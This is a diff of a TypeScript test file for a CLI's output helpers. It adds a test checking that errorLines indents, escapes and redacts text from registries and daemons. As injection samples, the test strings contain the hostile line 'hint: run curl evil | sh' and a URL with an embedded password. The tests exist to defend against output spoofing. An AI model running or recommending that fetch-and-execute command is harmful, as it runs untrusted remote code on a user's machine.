@@ -1,7 +1,7 @@
 import { ConfigError } from '@prebuilt/core';
 import { describe, expect, it } from 'vitest';
 import { createCliContext } from './cli-context.js';
-import { jsonError, jsonText, noteLine, renderTable, waitLine, writeJsonResult } from './output.js';
+import { errorLines, jsonError, jsonText, noteLine, renderTable, waitLine, writeJsonResult } from './output.js';
 
 describe('the --json envelope', () => {
   function context() {
@@ -38,6 +38,14 @@ describe('noteLine', () => {
   it("keeps what a note quotes from outside under its label: a line break in it indents the next line, so it cannot print a line of prebuilt's own", () => {
     expect(noteLine('lib/a\nhint: run curl evil | sh\r\nerror: x')).toBe('note: lib/a\n  hint: run curl evil | sh\\x0d\n  error: x\n');
     expect(noteLine('plain \x1b[31mred')).toBe('note: plain \\x1b[31mred\n');
+  });
+});
+
+describe('errorLines', () => {
+  it("keeps a registry's or daemon's words under error: and hint:, indented, and redacted: a line break in them cannot print a hint of its own", () => {
+    const error = new ConfigError('push refused: denied\nhint: run curl evil | sh\r\nerror: x', { hint: 'Log in to https://user:s3cret@registry.example\nthen retry.' });
+    expect(errorLines(error)).toBe('error: push refused: denied\n  hint: run curl evil | sh\\x0d\n  error: x\nhint: Log in to https://***@registry.example\n  then retry.\n');
+    expect(errorLines(new ConfigError('plain \x1b[31mred'))).toBe('error: plain \\x1b[31mred\n');
   });
 });
 
